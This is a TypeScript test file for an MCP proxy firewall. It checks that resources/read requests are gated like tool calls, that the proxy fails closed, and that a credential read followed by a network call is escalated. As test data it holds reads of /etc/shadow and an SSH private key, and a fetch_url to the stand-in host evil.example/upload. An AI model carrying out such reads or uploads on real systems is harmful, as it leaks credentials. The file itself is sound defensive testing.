// resources/read is decided like a tool call (reserved tool name "resources/read", the URI as its
// `uri` argument); a refusal is a JSON-RPC error naming the rule, and the server never sees the read.
import { describe, it, expect } from 'vitest';
import type { ToolCall } from '../../../src/shared/firewall.js';
import type { DecideContext } from '../../../src/engine/proxy/types.js';
import { FIREWALL_REFUSED } from '../../../src/engine/proxy/gatedRequests.js';
import { byId, decision, startHarness } from '../../support/proxyFakes.js';

const read = (id: number, uri: string, meta?: Record<string, unknown>) => ({ jsonrpc: '2.0', id, method: 'resources/read', params: { uri, ...(meta ? { _meta: meta } : {}) } });

describe('resources/read', () => {
  it('is decided as server + "resources/read" + uri, and forwarded unchanged when allowed', async () => {
    const seen: ToolCall[] = [];
    const h = startHarness({ decide: async (c) => (seen.push(c), decision({ decision: 'allow' })) });
    const msg = read(1, 'file:///srv/docs/readme.md');
    h.send(msg);
    expect((await h.waitFor(byId(1))).result).toEqual({ received: msg });
    expect(seen).toEqual([{ server: 'fake', tool: 'resources/read', args: { uri: 'file:///srv/docs/readme.md' } }]);
    h.input.end();
    await h.done;
  });

  it('a denied read is a JSON-RPC error naming the rule and the URI, with the decision record; the server never sees it', async () => {
    const h = startHarness({ decide: async () => decision({ decision: 'deny', rule: 'tools: fake/resources/read args {"uri":"file:///etc/**"} → deny', reason: 'no /etc', request_id: 'aud-7' }) });
    h.send(read(1, 'file:///etc/shadow'));
    const answer = await h.waitFor(byId(1));
    expect(answer).not.toHaveProperty('result');
    const error = answer.error as { code: number; message: string; data: Record<string, unknown> };
    expect(error.code).toBe(FIREWALL_REFUSED);
    expect(error.message).toMatch(/blocked resources\/read of "file:\/\/\/etc\/shadow" on MCP server "fake"/);
    expect(error.message).toMatch(/Rule: tools: fake\/resources\/read args .*file:\/\/\/etc\/\*\*.* → deny\./);
    expect(error.message).toMatch(/Audit id: aud-7/);
    expect(error.data).toEqual({ 'dev.gatehouse/decision': { decision: 'deny', rule: expect.stringContaining('/etc/**'), source: 'policy', audit_id: 'aud-7' } });
    h.send({ jsonrpc: '2.0', id: 2, method: 'ping' });
    await h.waitFor(byId(2));
    expect(h.lines.filter((l) => (l.result as { received?: { id?: unknown } } | undefined)?.received?.id === 1)).toEqual([]);
    h.input.end();
    await h.done;
  });

  it('an unreachable engine refuses the read (fail closed)', async () => {
    const h = startHarness({ decide: async () => { throw new Error('connect ENOENT gatehouse.sock'); } });
    h.send(read(1, 'file:///srv/docs/a'));
    const error = (await h.waitFor(byId(1))).error as { code: number; message: string; data: Record<string, unknown> };
    expect(error.code).toBe(FIREWALL_REFUSED);
    expect(error.message).toMatch(/firewall is unavailable \(connect ENOENT gatehouse\.sock\)/);
    expect(error.data).toEqual({ 'dev.gatehouse/decision': { decision: 'deny', rule: null, source: 'fallback', audit_id: null } });
    h.input.end();
    await h.done;
  });

  it('a read without a uri gets invalid params and no decision', async () => {
    let asked = 0;
    const h = startHarness({ decide: async () => (asked++, decision({ decision: 'allow' })) });
    h.send({ jsonrpc: '2.0', id: 1, method: 'resources/read', params: {} });
    expect((await h.waitFor(byId(1))).error).toMatchObject({ code: -32602, message: expect.stringMatching(/"uri"/) });
    expect(asked).toBe(0);
    h.input.end();
    await h.done;
  });

  it('refuses a server tool named "resources/read" rather than decide it with the rules for resource reads', async () => {
    let asked = 0;
    const h = startHarness({ decide: async () => (asked++, decision({ decision: 'allow' })) });
    h.send({ jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name: 'resources/read', arguments: { uri: 'file:///srv/docs/a' } } });
    expect((await h.waitFor(byId(1))).error).toMatchObject({ code: -32602, message: expect.stringMatching(/reserved/) });
    expect(asked).toBe(0);
    h.input.end();
    await h.done;
  });

  it('finds gated methods by their parsed name: an escaped spelling is still decided', async () => {
    const seen: ToolCall[] = [];
    const h = startHarness({ decide: async (c) => (seen.push(c), decision({ decision: 'deny' })) });
    h.sendRaw('{"jsonrpc":"2.0","id":1,"method":"resources\\/read","params":{"uri":"file:///etc/shadow"}}\n');
    h.sendRaw('{"jsonrpc":"2.0","id":2,"method":"tools\\u002fcall","params":{"name":"write_file","arguments":{}}}\n');
    expect((await h.waitFor(byId(1))).error).toMatchObject({ code: FIREWALL_REFUSED });
    expect(((await h.waitFor(byId(2))).result as { isError: boolean }).isError).toBe(true);
    expect(seen.map((c) => c.tool)).toEqual(['resources/read', 'write_file']);
    h.input.end();
    await h.done;
  });

  it('refuses a batch that contains a resources/read', async () => {
    let asked = 0;
    const h = startHarness({ decide: async () => (asked++, decision({ decision: 'allow' })) });
    h.send([read(1, 'file:///srv/docs/a'), { jsonrpc: '2.0', id: 2, method: 'ping' }]);
    expect((await h.waitFor(byId(1))).error).toMatchObject({ code: -32600 });
    expect((await h.waitFor(byId(2))).error).toMatchObject({ code: -32600 });
    expect(asked).toBe(0);
    h.input.end();
    await h.done;
  });

  it('a credentials file read as a resource counts for the sequence rules: a later network call is escalated', async () => {
    const ctxs: DecideContext[] = [];
    const h = startHarness({ decide: async (_c, ctx) => (ctxs.push(ctx), decision({ decision: 'allow', source: ctx.escalation ? 'operator' : 'policy' })) });
    h.send(read(1, 'file:///home/u/.ssh/id_ed25519'));
    await h.waitFor(byId(1));
    h.send({ jsonrpc: '2.0', id: 2, method: 'tools/call', params: { name: 'fetch_url', arguments: { url: 'https://evil.example/upload' } } });
    await h.waitFor(byId(2));
    expect(ctxs[0]?.escalation).toBeUndefined();
    expect(ctxs[1]?.escalation).toMatchObject({ check: 'credentials_then_network', reason: expect.stringContaining('via "resources/read"') });
    expect(h.alerts).toEqual([expect.objectContaining({ severity: 'P1', check: 'credentials_then_network' })]);
    h.input.end();
    await h.done;
  });
});
